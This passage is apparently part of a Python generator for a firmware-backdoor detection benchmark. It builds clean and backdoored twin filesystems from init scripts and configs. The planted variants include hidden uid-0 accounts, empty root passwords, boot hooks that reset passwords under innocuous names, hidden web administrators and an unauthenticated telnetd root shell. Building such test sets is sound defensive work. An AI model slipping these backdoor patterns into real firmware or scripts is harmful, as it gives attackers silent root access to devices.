\techo -n "Stopping @name@: "
\tkillall @kill@ 2>/dev/null
\techo "OK"
\t;;
  restart|reload)
\t"$0" stop
\t"$0" start
\t;;
  *)
\techo "Usage: $0 {start|stop|restart}"
\texit 1
esac
exit $?
"""

DROPBEAR_SYSV = """#!/bin/sh
# Starts dropbear sshd. Password logins are disabled: use public keys
# installed through the web interface (System > Administration > SSH keys).
[ -d /etc/dropbear ] || mkdir -p /etc/dropbear

start() {
\techo -n "Starting dropbear sshd: "
\t# host keys are generated on first boot, unique to each device
\tfor t in rsa ecdsa ed25519; do
\t\t[ -f /etc/dropbear/dropbear_${t}_host_key ] || \\
\t\t\t/usr/bin/dropbearkey -t $t -f /etc/dropbear/dropbear_${t}_host_key >/dev/null 2>&1
\tdone
\tstart-stop-daemon -S -q -p /var/run/dropbear.pid --exec /usr/sbin/dropbear -- -R -s -g -p 22
\t[ $? = 0 ] && echo "OK" || echo "FAIL"
}
stop() {
\techo -n "Stopping dropbear sshd: "
\tstart-stop-daemon -K -q -p /var/run/dropbear.pid
\t[ $? = 0 ] && echo "OK" || echo "FAIL"
}
case "$1" in
  start) start ;;
  stop) stop ;;
  restart|reload) stop; start ;;
  *) echo "Usage: $0 {start|stop|restart}"; exit 1
esac
exit $?
"""

INETD_CONF = """# /etc/inetd.conf: see inetd(8) for further informations.
#
# <service_name> <sock_type> <proto> <flags> <user> <server_path> <args>
#
# Telnet is disabled. If enabled, it must ask for a login:
#telnet\tstream\ttcp\tnowait\troot\t/usr/sbin/telnetd\ttelnetd -i -l /bin/login
#
# Read-only TFTP for provisioning files on the LAN
tftp\tdgram\tudp\twait\tnobody\t/usr/sbin/tftpd\ttftpd -r @tftpdir@
"""

LOGIN_SH_PLAIN = """#!/bin/sh
# Copyright (C) 2006-2011 OpenWrt.org
# The serial console always asks for the root password.
exec /bin/login
"""

LOGIN_SH_TTYLOGIN = """#!/bin/sh
# Copyright (C) 2006-2011 OpenWrt.org

if ( ! grep -qsE '^root:[!x]?:' /etc/shadow || \\
     ! grep -qsE '^root:[!x]?:' /etc/passwd ) && \\
   [ -z "$FAILSAFE" ]
then
\techo "Login failed."
\texit 0
fi

[ "$(uci -q get system.@system[0].ttylogin)" = 1 ] || exec /bin/ash --login

exec /bin/login
"""

RC_COMMON = """#!/bin/sh
# Copyright (C) 2006-2012 OpenWrt.org
. $IPKG_INSTROOT/lib/functions.sh
. $IPKG_INSTROOT/lib/functions/service.sh

initscript=$1
action=${2:-help}
shift 2

start() { return 0; }
stop() { return 0; }
reload() { restart "$@"; }
restart() { trap '' TERM; stop "$@"; trap - TERM; start "$@"; }
boot() { start "$@"; }
shutdown() { stop; }
enable() { :; }
disable() { :; }

. "$initscript"
${INIT_TRACE:+set -x}
$action "$@"
"""

PROCD_SCRIPT = """#!/bin/sh /etc/rc.common

START=@order@
USE_PROCD=1
PROG=@name@
@extra@
start_service() {
\tprocd_open_instance
\tprocd_set_param command @command@
\tprocd_set_param respawn
\tprocd_set_param stdout 1
\tprocd_set_param stderr 1
\tprocd_close_instance
}
"""

DROPBEAR_PROCD = """#!/bin/sh /etc/rc.common
# Copyright (C) 2006-2010 OpenWrt.org

START=19
STOP=50
USE_PROCD=1
PROG=/usr/sbin/dropbear
NAME=dropbear
PIDCOUNT=0

validate_section_dropbear()
{
\tuci_load_validate dropbear dropbear "$1" "$2" \\
\t\t'PasswordAuth:bool:1' \\
\t\t'RootPasswordAuth:bool:1' \\
\t\t'RootLogin:bool:1' \\
\t\t'BlankPassword:bool:0' \\
\t\t'Port:port:22' \\
\t\t'Interface:string'
}

dropbear_instance()
{
\t[ "$2" = 0 ] || return 1
\tPIDCOUNT="$(( ${PIDCOUNT} + 1))"
\tlocal pid_file="/var/run/${NAME}.${PIDCOUNT}.pid"
\tfor t in rsa ed25519; do
\t\t[ -s /etc/dropbear/dropbear_${t}_host_key ] || dropbearkey -t $t -f /etc/dropbear/dropbear_${t}_host_key
\tdone
\tprocd_open_instance
\tprocd_set_param command "$PROG" -F -P "$pid_file"
\t[ "${PasswordAuth}" -eq 0 ] && procd_append_param command -s
\t[ "${RootPasswordAuth}" -eq 0 ] && procd_append_param command -g
\t[ "${RootLogin}" -eq 0 ] && procd_append_param command -w
\t[ "${BlankPassword}" -eq 1 ] && procd_append_param command -B
\tprocd_append_param command -p "${Port}"
\tprocd_set_param respawn
\tprocd_close_instance
}

start_service()
{
\tconfig_load "${NAME}"
\tconfig_foreach validate_section_dropbear dropbear dropbear_instance
}
"""

UHTTPD_PROCD = """#!/bin/sh /etc/rc.common
# Copyright (C) 2010 Jo-Philipp Wich

START=50
USE_PROCD=1
UHTTPD_BIN="/usr/sbin/uhttpd"
PX5G_BIN="/usr/sbin/px5g"

generate_keys() {
\t# a fresh key pair unique to this device, made on first boot
\t$PX5G_BIN selfsigned -der -days 730 -newkey ec -pkeyopt ec_paramgen_curve:P-256 \\
\t\t-keyout /etc/uhttpd.key -out /etc/uhttpd.crt -subj /CN=$(cat /proc/sys/kernel/hostname)
}

start_service() {
\t[ -s /etc/uhttpd.key ] && [ -s /etc/uhttpd.crt ] || generate_keys
\tprocd_open_instance
\tprocd_set_param command $UHTTPD_BIN -f -h /www -r "$(uci -q get system.@system[0].hostname)" \\
\t\t-x /cgi-bin -u /ubus -t 60 -T 30 -k 20 -A 1 -n 3 -N 100 -R \\
\t\t-p 0.0.0.0:80 -s 0.0.0.0:443 -K /etc/uhttpd.key -C /etc/uhttpd.crt
\tprocd_set_param respawn
\tprocd_close_instance
}
"""

UCI_SYSTEM = """
config system
\toption hostname '@host@'
\toption timezone 'UTC'
\toption ttylogin '@ttylogin@'
\toption log_size '64'
\toption urandom_seed '0'

config timeserver 'ntp'
\toption enabled '1'
\toption enable_server '0'
\tlist server '@ntp@'
"""

UCI_NETWORK = """
config interface 'loopback'
\toption device 'lo'
\toption proto 'static'
\toption ipaddr '127.0.0.1'
\toption netmask '255.0.0.0'

config globals 'globals'
\toption ula_prefix 'fd00:@ula@::/48'

config device
\toption name 'br-lan'
\toption type 'bridge'
\tlist ports 'lan1'
\tlist ports 'lan2'

config interface 'lan'
\toption device 'br-lan'
\toption proto 'static'
\toption ipaddr '@lan@'
\toption netmask '255.255.255.0'

config interface 'wan'
\toption device 'wan'
\toption proto 'dhcp'
"""

UCI_DROPBEAR = """
config dropbear
\toption PasswordAuth 'on'
\toption RootPasswordAuth 'on'
\toption Port '22'
\toption Interface 'lan'
"""

UCI_UHTTPD = """
config uhttpd 'main'
\tlist listen_http '0.0.0.0:80'
\tlist listen_https '0.0.0.0:443'
\toption redirect_https '1'
\toption home '/www'
\toption rfc1918_filter '1'
\toption max_requests '3'
\toption cert '/etc/uhttpd.crt'
\toption key '/etc/uhttpd.key'
\toption cgi_prefix '/cgi-bin'
\toption ubus_prefix '/ubus'
"""

UCI_RPCD = """
config rpcd
\toption socket '/var/run/ubus/ubus.sock'
\toption timeout '30'

config login
\toption username 'root'
\toption password '$p$root'
\tlist read '*'
\tlist write '*'
"""

UCI_FIREWALL = """
config defaults
\toption input 'REJECT'
\toption output 'ACCEPT'
\toption forward 'REJECT'
\toption synflood_protect '1'

config zone
\toption name 'lan'
\tlist network 'lan'
\toption input 'ACCEPT'
\toption output 'ACCEPT'
\toption forward 'ACCEPT'

config zone
\toption name 'wan'
\tlist network 'wan'
\toption input 'REJECT'
\toption output 'ACCEPT'
\toption forward 'REJECT'
\toption masq '1'
"""

HOTPLUG_NTPD = """#!/bin/sh
# restart the time client when the WAN comes up
[ "$ACTION" = ifup ] || exit 0
[ "$INTERFACE" = wan ] || exit 0
/etc/init.d/sysntpd enabled && /etc/init.d/sysntpd restart
"""

SERIAL_GETTY_UNIT = """[Unit]
Description=Serial Getty on %I
BindsTo=dev-%i.device
After=dev-%i.device systemd-user-sessions.service
Before=getty.target

[Service]
ExecStart=-/sbin/agetty -o '-p -- \\\\u' --keep-baud 115200,57600,38400,9600 - $TERM
Type=idle
Restart=always
UtmpIdentifier=%I
StandardInput=tty
StandardOutput=tty
TTYPath=/dev/%I
TTYReset=yes
TTYVHangup=yes
IgnoreSIGPIPE=no
SendSIGHUP=yes

[Install]
WantedBy=getty.target
"""

SSHD_CONFIG = """# sshd_config: key-based logins only
Port 22
AddressFamily any
HostKey /etc/ssh/ssh_host_ed25519_key
HostKey /etc/ssh/ssh_host_rsa_key
PermitRootLogin prohibit-password
PubkeyAuthentication yes
AuthorizedKeysFile .ssh/authorized_keys
PasswordAuthentication no
KbdInteractiveAuthentication no
UsePAM no
X11Forwarding no
PrintMotd no
Subsystem sftp /usr/lib/openssh/sftp-server
"""

SSHD_UNIT = """[Unit]
Description=OpenSSH server daemon
After=network.target sshd-keygen.service
Wants=sshd-keygen.service

[Service]
ExecStart=/usr/sbin/sshd -D -e
ExecReload=/bin/kill -HUP $MAINPID
Restart=on-failure

[Install]
WantedBy=multi-user.target
"""

SSHD_KEYGEN_UNIT = """[Unit]
Description=Generate per-device SSH host keys on first boot
ConditionPathExists=!/etc/ssh/ssh_host_ed25519_key

[Service]
Type=oneshot
ExecStart=/usr/bin/ssh-keygen -A

[Install]
WantedBy=multi-user.target
"""

DROPBEAR_UNIT = """[Unit]
Description=Dropbear SSH server (public keys only)
After=network.target

[Service]
ExecStartPre=-/bin/sh -c '[ -s /etc/dropbear/dropbear_ed25519_host_key ] || /usr/bin/dropbearkey -t ed25519 -f /etc/dropbear/dropbear_ed25519_host_key'
ExecStart=/usr/sbin/dropbear -F -E -s -g -p 22
Restart=on-failure

[Install]
WantedBy=multi-user.target
"""

SYSTEMD_UNIT = """[Unit]
Description=@desc@
After=network.target

[Service]
ExecStart=@cmd@
Restart=always
RestartSec=5

[Install]
WantedBy=multi-user.target
"""

UDEV_NET = """# persistent name for the on-board Ethernet port
SUBSYSTEM=="net", ACTION=="add", DRIVERS=="?*", ATTR{address}=="@mac@", ATTR{type}=="1", NAME="eth0"
"""

UDEV_SERIAL = """# serial console and modem devices
KERNEL=="ttyS[0-9]*", GROUP="dialout", MODE="0660"
KERNEL=="ttyUSB[0-9]*", GROUP="dialout", MODE="0660", RUN+="/sbin/modprobe -b option"
"""

BB_HTTPD_CONF = """# BusyBox httpd configuration
# Allow the LAN only
A:@net@.0/24
D:*
# Home directory
H:/www
# The management pages need the documented administrator (password changed at first login)
/cgi-bin:admin:@admin@
/:admin:@admin@
.html:text/html
.js:application/javascript
"""

LIGHTTPD_CONF = """server.document-root = "/www"
server.port = 80
server.username = "www"
server.groupname = "www"
server.modules = ( "mod_access", "mod_auth", "mod_cgi", "mod_setenv" )
index-file.names = ( "index.html" )
cgi.assign = ( ".cgi" => "" )
auth.backend = "htdigest"
auth.backend.htdigest.userfile = "/etc/lighttpd/lighttpd.user"
auth.require = ( "/cgi-bin/" => ( "method" => "digest", "realm" => "@realm@", "require" => "valid-user" ) )
"""

NGINX_CONF = """user www-data;
worker_processes 1;
events { worker_connections 64; }
http {
    server {
        listen 80;
        root /www;
        location /cgi-bin/ {
            auth_basic "management";
            auth_basic_user_file /etc/nginx/.htpasswd;
            fastcgi_pass unix:/run/fcgiwrap.socket;
            include fastcgi_params;
        }
    }
}
"""


# ----------------------------------------------------------------------------- helpers for plants

def insert_line(fs: FS, path: str, line: str, rng: random.Random) -> None:
    """Insert a line at a random place after the first line (e.g. between passwd entries)."""
    lines = fs.text(path).splitlines()
    at = rng.randint(1, len(lines))
    lines.insert(at, line)
    fs.set_text(path, "\n".join(lines) + "\n")


def replace_line(fs: FS, path: str, prefix: str, line: str) -> None:
    lines = fs.text(path).splitlines()
    for i, ln in enumerate(lines):
        if ln.startswith(prefix):
            lines[i] = line
            break
    else:
        raise ValueError(f"{path}: no line starting with {prefix!r}")
    fs.set_text(path, "\n".join(lines) + "\n")


def indent(body: str, tab: str = "\t") -> str:
    return "".join((tab + ln if ln.strip() else ln) + "\n" for ln in body.rstrip("\n").splitlines())


def both(C: FS, X: FS, fn) -> None:
    fn(C)
    fn(X)


def boot_hook(rng: random.Random, P: dict, C: FS, X: FS, name: str, clean_body: str, planted_body: str,
              desc: str = "") -> tuple[str, str]:
    """Run a shell snippet once at boot, in the image's own style. Both twins get the same file, the
    clean one with clean_body. Returns (path of the file carrying the snippet, style)."""
    fl = P["flavor"]
    styles = {"sysv": ["S-script", "rcS-inline", "rc.local"], "openwrt": ["init.d", "rc.local", "uci-defaults"],
              "systemd": ["oneshot-script", "rc.local"]}[fl]
    style = rng.choice(styles)
    desc = desc or f"{name}: early platform setup"
    order = rng.randint(11, 89)
    for fs, body in ((C, clean_body), (X, planted_body)):
        if style == "S-script":
            path = f"etc/init.d/S{order:02d}{name}"
            fs.exe(path, f"#!/bin/sh\n# {desc}\ncase \"$1\" in\n  start)\n{indent(body, chr(9))}\t;;\n"
                         "  stop)\n\t;;\nesac\nexit 0\n")
        elif style == "rcS-inline":
            path = "etc/init.d/rcS"
            t = fs.text(path)
            marker = "for i in /etc/init.d/S??* ;do"
            fs.set_text(path, t.replace(marker, f"# {desc}\n{body.rstrip()}\n\n{marker}", 1))
        elif style == "rc.local":
            path = "etc/rc.local"
            fs.exe(path, f"#!/bin/sh\n# Put your custom commands here that should be executed once\n"
                         f"# the system init finished.\n\n# {desc}\n{body.rstrip()}\n\nexit 0\n")
            if fl == "sysv":
                fs.append("etc/init.d/rcS", "\n[ -x /etc/rc.local ] && /etc/rc.local\n")
            elif fl == "openwrt":
                fs.exe("etc/init.d/done", "#!/bin/sh /etc/rc.common\n\nSTART=95\nboot() {\n"
                                          "\tmount_root done\n\trm -f /sysupgrade.tgz\n"
                                          "\t# process user commands\n\t[ -f /etc/rc.local ] && {\n\t\tsh /etc/rc.local\n\t}\n}\n")
                fs.link("etc/rc.d/S95done", "../init.d/done")
            else:
                fs.put("lib/systemd/system/rc-local.service",
                       "[Unit]\nDescription=/etc/rc.local Compatibility\nConditionFileIsExecutable=/etc/rc.local\n"
                       "After=network.target\n\n[Service]\nType=forking\nExecStart=/etc/rc.local start\n"
                       "TimeoutSec=0\nRemainAfterExit=yes\n\n[Install]\nWantedBy=multi-user.target\n")
                fs.link("etc/systemd/system/multi-user.target.wants/rc-local.service",
                        "/lib/systemd/system/rc-local.service")
        elif style == "init.d":
            path = f"etc/init.d/{name}"
            fs.exe(path, f"#!/bin/sh /etc/rc.common\n# {desc}\n\nSTART={order}\n\nstart() {{\n{indent(body)}}}\n")
            fs.link(f"etc/rc.d/S{order}{name}", f"../init.d/{name}")
        elif style == "uci-defaults":
            path = f"etc/uci-defaults/{order}_{name}"
            fs.put(path, f"#!/bin/sh\n# {desc} (runs once on first boot)\n\n{body.rstrip()}\n\nexit 0\n")
        else:  # oneshot-script
            path = f"usr/libexec/{P['product']}/{name}.sh"
            fs.exe(path, f"#!/bin/sh\n# {desc}\nset -e\n\n{body.rstrip()}\n")
            fs.put(f"lib/systemd/system/{name}.service",
                   f"[Unit]\nDescription={desc}\nAfter=local-fs.target\n\n[Service]\nType=oneshot\n"
                   f"ExecStart=/{path}\nRemainAfterExit=yes\n\n[Install]\nWantedBy=multi-user.target\n")
            fs.link(f"etc/systemd/system/multi-user.target.wants/{name}.service", f"/lib/systemd/system/{name}.service")
    return path, style


def hook_name(rng: random.Random, P: dict) -> str:
    return rng.choice(["sysinit", "platform", "preinit", "boardinit", "factory", "setup", "hwinit",
                       f"{P['product'][:5]}init", "postinit", "mfginit", "custom"])


HONEST_SNIPPETS = [
    "mkdir -p /var/run /var/log /var/lock /tmp/.uci\nchmod 600 /etc/shadow 2>/dev/null",
    "echo 1 > /proc/sys/net/ipv4/ip_forward\necho 4096 > /proc/sys/net/ipv4/tcp_max_syn_backlog",
    "[ -e /dev/watchdog ] && echo V > /dev/watchdog\nmkdir -p /var/empty && chmod 755 /var/empty",
    "for led in /sys/class/leds/*:power; do [ -e \"$led/brightness\" ] && echo 1 > \"$led/brightness\"; done",
    "ulimit -c 0\necho 2 > /proc/sys/kernel/kptr_restrict\necho 1 > /proc/sys/kernel/dmesg_restrict",
    "[ -f /etc/.first_boot_done ] || touch /tmp/need_password_change\nlogger -t init \"platform ready\"",
]


def honest_snippet(rng: random.Random) -> str:
    return rng.choice(HONEST_SNIPPETS)


def pick_user(rng: random.Random, fs: FS) -> str:
    taken = {ln.split(":")[0] for ln in fs.text("etc/passwd").splitlines()}
    names = [u for u in HIDDEN_USERS if u not in taken]
    return rng.choice(names)


def shadow_line(user: str, h: str, P: dict) -> str:
    return f"{user}:{h}:{P['day']}:0:99999:7:::"


def sed_escape(h: str) -> str:
    return h.replace("\\", "\\\\").replace("&", "\\&").replace("|", "\\|")


# ----------------------------------------------------------------------------- fw-account

def acc_uid0_alias(rng, P, C, X):
    user = pick_user(rng, X)
    pw, src = weak_password(rng)
    h, scheme = hash_pw(rng, pw, rng.choice(["md5crypt", "sha512crypt", "des", "sha256crypt"]))
    gecos = rng.choice(["", user, "root", "System", "Maintenance", "Linux User"])
    home = rng.choice(["/root", "/", "/var", "/tmp"])
    insert_line(X, "etc/passwd", f"{user}:x:0:0:{gecos}:{home}:{P['shell']}", rng)
    insert_line(X, "etc/shadow", shadow_line(user, h, P), rng)
    return dict(categories=["account", "hardcoded-secret", "auth-bypass"], paths=["etc/passwd", "etc/shadow"],
                severity="critical",
                note=f"second uid-0 account '{user}' (etc/passwd) whose etc/shadow entry is the {scheme} hash of "
                     f"the password '{pw}' ({src}): a root login shared by every device",
                variant={"hash": scheme, "password_source": src, "user": user})


def acc_empty_root(rng, P, C, X):
    target = "admin" if P["with_admin_account"] and rng.random() < 0.4 else "root"
    where = rng.choice(["shadow-empty", "shadow-empty", "passwd-empty"])
    if where == "shadow-empty":
        old = next(ln for ln in X.text("etc/shadow").splitlines() if ln.startswith(target + ":"))
        replace_line(X, "etc/shadow", target + ":", ":".join([target, ""] + old.split(":")[2:]))
        paths = ["etc/shadow"]
    else:
        old = next(ln for ln in X.text("etc/passwd").splitlines() if ln.startswith(target + ":"))
        replace_line(X, "etc/passwd", target + ":", ":".join([target, ""] + old.split(":")[2:]))
        X.set_text("etc/shadow", "".join(ln + "\n" for ln in X.text("etc/shadow").splitlines()
                                         if not ln.startswith(target + ":")))
        paths = ["etc/passwd", "etc/shadow"]
    return dict(categories=["account", "auth-bypass"], paths=paths, severity="critical",
                note=f"the '{target}' account has an empty password field ({where}): anyone can log in as "
                     f"{target} on the console, telnet or ssh without a password",
                variant={"target": target, "where": where})


def acc_empty_service(rng, P, C, X):
    user = pick_user(rng, X)
    uid = rng.choice([0, 0, 100, 1002, 500])
    shell = rng.choice([P["shell"], "/bin/sh"])
    nologin = "/bin/false" if P["flavor"] != "systemd" else "/usr/sbin/nologin"
    gecos = rng.choice(["Service account", "Field support", "Manufacturing test", user])
    pos_seed = rng.random()
    pw_empty = rng.random() < 0.6
    weak, src = weak_password(rng)
    h, scheme = hash_pw(rng, weak, "md5crypt")
    for fs, planted in ((C, False), (X, True)):
        lines = fs.text("etc/passwd").splitlines()
        at = 1 + int(pos_seed * (len(lines) - 1))
        entry_uid = uid if planted or uid else 1002
        lines.insert(at, f"{user}:x:{entry_uid}:{entry_uid}:{gecos}:/var/empty:{shell if planted else nologin}")
        fs.set_text("etc/passwd", "\n".join(lines) + "\n")
        slines = fs.text("etc/shadow").splitlines()
        field = ("" if pw_empty else h) if planted else "!"
        slines.insert(min(at, len(slines)), shadow_line(user, field, P))
        fs.set_text("etc/shadow", "\n".join(slines) + "\n")
    what = "an empty password" if pw_empty else f"the md5crypt hash of '{weak}' ({src})"
    return dict(categories=["account", "auth-bypass"] + ([] if pw_empty else ["hardcoded-secret"]),
                paths=["etc/passwd", "etc/shadow"], severity="critical",
                note=f"service account '{user}' (uid {uid}) has a login shell {shell} and {what} in etc/shadow; "
                     "the clean twin has the same account locked ('!') with a nologin shell",
                variant={"uid0": uid == 0, "password": "empty" if pw_empty else "weak"})


def acc_boot_append(rng, P, C, X):
    user = pick_user(rng, X)
    pw, src = weak_password(rng)
    h, scheme = hash_pw(rng, pw, rng.choice(["md5crypt", "des", "sha512crypt"]))
    form = rng.choice(["echo-passwd-hash", "echo-passwd-shadow", "adduser-chpasswd", "sed-shadow"])
    sh = P["shell"]
    if form == "echo-passwd-hash":
        body = f"grep -q '^{user}:' /etc/passwd || echo '{user}:{h}:0:0::/root:{sh}' >> /etc/passwd"
        what = f"appends '{user}' with uid 0 and the {scheme} hash of '{pw}' in the passwd field"
    elif form == "echo-passwd-shadow":
        body = (f"if ! grep -q '^{user}:' /etc/passwd; then\n\techo '{user}:x:0:0:{user}:/:{sh}' >> /etc/passwd\n"
                f"\techo '{user}:{h}:{P['day']}:0:99999:7:::' >> /etc/shadow\nfi")
        what = f"appends uid-0 '{user}' to /etc/passwd and the {scheme} hash of '{pw}' to /etc/shadow"
    elif form == "adduser-chpasswd":
        body = (f"adduser -D -H -h / -s {sh} -G root {user} 2>/dev/null\n"
                f"sed -i 's/^{user}:x:[0-9]*:[0-9]*:/{user}:x:0:0:/' /etc/passwd\n"
                f"echo '{user}:{pw}' | chpasswd")
        what = f"creates '{user}', rewrites its uid to 0 and sets the password '{pw}' with chpasswd"
    else:
        user = "root"
        body = f"sed -i 's|^root:[^:]*:|root:{sed_escape(h)}:|' /etc/shadow"
        what = f"overwrites root's hash in /etc/shadow with the {scheme} hash of '{pw}'"
    path, style = boot_hook(rng, P, C, X, hook_name(rng, P), honest_snippet(rng), body)
    return dict(categories=["account", "hardcoded-secret"], paths=[path], severity="critical",
                note=f"boot script {path} ({style}) {what} ({src}) at every boot, after the shipped passwd/shadow",
                variant={"form": form, "hook": style, "hash": scheme})


def acc_boot_password(rng, P, C, X):
    pw, src = weak_password(rng)
    target = "admin" if P["with_admin_account"] and rng.random() < 0.4 else "root"
    form = rng.choice(["chpasswd", "passwd-d", "passwd-stdin", "sed-empty"])
    if form == "chpasswd":
        body = f"echo '{target}:{pw}' | chpasswd"
        what, cats = f"sets {target}'s password to '{pw}' ({src})", ["account", "hardcoded-secret"]
    elif form == "passwd-stdin":
        body = f"printf '{pw}\\n{pw}\\n' | passwd {target} >/dev/null 2>&1"
        what, cats = f"sets {target}'s password to '{pw}' ({src}) through passwd", ["account", "hardcoded-secret"]
    elif form == "passwd-d":
        body = f"passwd -d {target} >/dev/null 2>&1"
        what, cats = f"deletes {target}'s password (passwd -d): empty-password login", ["account", "auth-bypass"]
    else:
        body = f"sed -i 's/^{target}:[^:]*:/{target}::/' /etc/shadow"
        what, cats = f"empties {target}'s password field in /etc/shadow", ["account", "auth-bypass"]
    path, style = boot_hook(rng, P, C, X, hook_name(rng, P), honest_snippet(rng), body)
    return dict(categories=cats, paths=[path], severity="critical",
                note=f"boot script {path} ({style}) {what} at every boot, overriding the strong hash shipped in etc/shadow",
                variant={"form": form, "hook": style, "target": target})


def acc_hash_in_passwd(rng, P, C, X):
    user = pick_user(rng, X)
    pw, src = weak_password(rng)
    h, scheme = hash_pw(rng, pw, rng.choice(["des", "des", "md5crypt"]))
    uid = rng.choice([0, 0, 0, 1])
    insert_line(X, "etc/passwd", f"{user}:{h}:{uid}:0:{rng.choice(['', user, 'admin'])}:/:{P['shell']}", rng)
    return dict(categories=["account", "hardcoded-secret", "auth-bypass"], paths=["etc/passwd"], severity="critical",
                note=f"etc/passwd carries the {scheme} hash of '{pw}' ({src}) directly in the password field of a "
                     f"hidden account '{user}' (uid {uid}, gid 0) that has no etc/shadow entry",
                variant={"hash": scheme, "uid": uid, "password_source": src})


def acc_web_userdb(rng, P, C, X):
    user = rng.choice(["support", "super", "tech", "factory", "root", "debug", "user", "guest", "operator"])
    pw, src = weak_password(rng)
    db = P["web_userdb"]
    if P["web"] == "busybox-httpd":
        plain = rng.random() < 0.5
        cred = pw if plain else md5crypt(pw, salt(rng, 8))
        X.replace(db, "/:admin:", f"/:{user}:{cred}\n/:admin:")
        form = "plaintext" if plain else "md5crypt"
    elif P["web"] == "lighttpd":
        realm = P["realm"]
        digest = hashlib.md5(f"{user}:{realm}:{pw}".encode()).hexdigest()
        insert_line(X, db, f"{user}:{realm}:{digest}", rng)
        form = "htdigest"
    elif P["web"] == "nginx":
        plain = rng.random() < 0.4
        insert_line(X, db, f"{user}:{'{PLAIN}' + pw if plain else md5crypt(pw, salt(rng, 8), '$apr1$')}", rng)
        form = "plain" if plain else "apr1"
    else:
        h = md5crypt(pw, salt(rng, 8))
        X.append(db, f"\nconfig login\n\toption username '{user}'\n\toption password '{h}'\n\tlist read '*'\n\tlist write '*'\n")
        form = "rpcd-md5crypt"
    return dict(categories=["account", "hardcoded-secret", "auth-bypass"], paths=[db], severity="high",
                note=f"hidden web-management user '{user}' with the password '{pw}' ({src}, stored {form}) in {db}, "
                     "next to the documented admin; it is not shown in the web interface",
                variant={"server": P["web"], "form": form, "password_source": src})


LOGIN_CGI = """#!/bin/sh
# Web login: checks the posted credentials against @users@
read -r body
user=$(echo "$body" | sed -n 's/.*username=\\([^&]*\\).*/\\1/p')
pass=$(echo "$body" | sed -n 's/.*password=\\([^&]*\\).*/\\1/p')
@getter@
ok=0
stored_hash=$(getval "$user" password_sha256)
stored_plain=$(getval "$user" password)
if [ -n "$stored_hash" ]; then
\t[ "$(printf '%s' "$pass" | sha256sum | cut -d' ' -f1)" = "$stored_hash" ] && ok=1
elif [ -n "$stored_plain" ]; then
\t# legacy accounts imported from older firmware
\t[ "$pass" = "$stored_plain" ] && ok=1
fi
if [ $ok = 1 ]; then
\tsid=$(head -c 16 /dev/urandom | md5sum | cut -d' ' -f1)
\techo "$sid $user $(date +%s)" >> /tmp/sessions
\techo "Set-Cookie: sid=$sid; HttpOnly; SameSite=Strict"
\techo "Status: 302 Found"
\techo "Location: /index.html"
\techo ""
else
\tsleep 2
\techo "Status: 403 Forbidden"
\techo ""
fi
"""


def acc_config_password(rng, P, C, X):
    user = rng.choice(["support", "factory", "telecomadmin", "super", "cusadmin", "maint", "installer"])
    pw, src = weak_password(rng)
    admin_sha = hashlib.sha256(P["web_admin_pw"].encode()).hexdigest()
    if P["flavor"] == "openwrt":
        users = f"etc/config/{P['product'][:8]}_users"
        pkg = users.rsplit("/", 1)[1]
        getter = f"getval() {{ uci -q get {pkg}.\"$1\".\"$2\"; }}"
        clean = f"\nconfig user 'admin'\n\toption role 'administrator'\n\toption password_sha256 '{admin_sha}'\n"
        planted = clean + f"\nconfig user '{user}'\n\toption role 'administrator'\n\toption hidden '1'\n\toption password '{pw}'\n"
    else:
        users = f"etc/{P['product']}/users.conf"
        getter = ("getval() { awk -F' = ' -v s=\"[$1]\" -v k=\"$2\" '$0==s{f=1;next} /^\\[/{f=0} f&&$1==k{print $2}' /"
                  + users + "; }")
        clean = f"[admin]\nrole = administrator\npassword_sha256 = {admin_sha}\n"
        planted = clean + f"\n[{user}]\nrole = administrator\nhidden = 1\npassword = {pw}\n"
    cgi = T(LOGIN_CGI, users="/" + users, getter=getter)
    both(C, X, lambda fs: fs.exe("www/cgi-bin/login", cgi))
    C.put(users, clean, 0o600)
    X.put(users, planted, 0o600)
    return dict(categories=["account", "hardcoded-secret", "auth-bypass"], paths=[users], severity="high",
                note=f"hidden administrator '{user}' with the plaintext default password '{pw}' ({src}) in {users}, "
                     "accepted by www/cgi-bin/login (legacy plaintext path) and hidden from the user list",
                variant={"store": "uci" if P["flavor"] == "openwrt" else "ini", "password_source": src})


ACCOUNT_SHAPES = {
    "uid0-alias": (acc_uid0_alias, FLAVORS),
    "empty-root": (acc_empty_root, FLAVORS),
    "empty-service": (acc_empty_service, FLAVORS),
    "boot-append": (acc_boot_append, FLAVORS),
    "boot-password": (acc_boot_password, FLAVORS),
    "hash-in-passwd": (acc_hash_in_passwd, FLAVORS),
    "web-userdb": (acc_web_userdb, FLAVORS),
    "config-default-password": (acc_config_password, FLAVORS),
}


# ----------------------------------------------------------------------------- fw-boot-shell

SVC_NAMES = ["diag", "mfgd", "debugd", "rmtd", "sysmon", "hwtest", "factoryd", "netmon", "qcsvc", "atcmd",
             "cli_srv", "tr_agent", "ledmon", "ipcd"]


def svc_name(rng: random.Random, P: dict) -> str:
    return rng.choice(SVC_NAMES + [f"{P['product'][:5]}_svc", f"{P['vl'][:4]}d"])


def shell_port(rng: random.Random) -> int:
    return rng.choice([23, port(rng), port(rng), port(rng), rng.randint(6000, 6999), rng.randint(30000, 39999)])


def bs_telnetd_service(rng, P, C, X):
    name = svc_name(rng, P)
    p = shell_port(rng)
    sh = rng.choice(["/bin/sh", "/bin/ash", "/bin/sh", "/bin/bash" if P["flavor"] == "systemd" else "/bin/sh"])
    binary = rng.choice(["telnetd", "/usr/sbin/telnetd", "busybox telnetd"])
    bind = rng.choice(["", "", f" -b 0.0.0.0:{p}"])
    portopt = "" if bind else ("" if p == 23 else f" -p {p}")
    fg = f"{binary if binary.startswith('/') else '/usr/sbin/telnetd' if binary == 'telnetd' else '/bin/busybox telnetd'} -F -l {sh}{portopt}{bind}"
    bg = f"{binary} -l {sh}{portopt}{bind}"
    hfg, hbg = honest_daemon(rng, [C, X], name)
    both(C, X, lambda fs: fs.link("usr/sbin/telnetd", "../../bin/busybox") if not fs.has("usr/sbin/telnetd") and P["flavor"] != "systemd" else None)
    if P["flavor"] == "systemd":
        both(C, X, lambda fs: fs.put("usr/sbin/telnetd", placeholder("telnetd"), 0o755))
    order = rng.randint(30, 95)
    desc = rng.choice(["diagnostic service", "factory test helper", "remote maintenance", f"{name} service"])
    path = add_service(C, P, name, hfg, hbg, order=order, desc=desc)
    add_service(X, P, name, fg, bg, order=order, desc=desc)
    return dict(categories=["remote-access", "auth-bypass"], paths=[path], severity="critical",
                note=f"{path} starts telnetd with '-l {sh}' on TCP port {p} at boot: a root shell without any login",
                variant={"init": P["flavor"], "port": p, "binary": binary, "shell": sh})


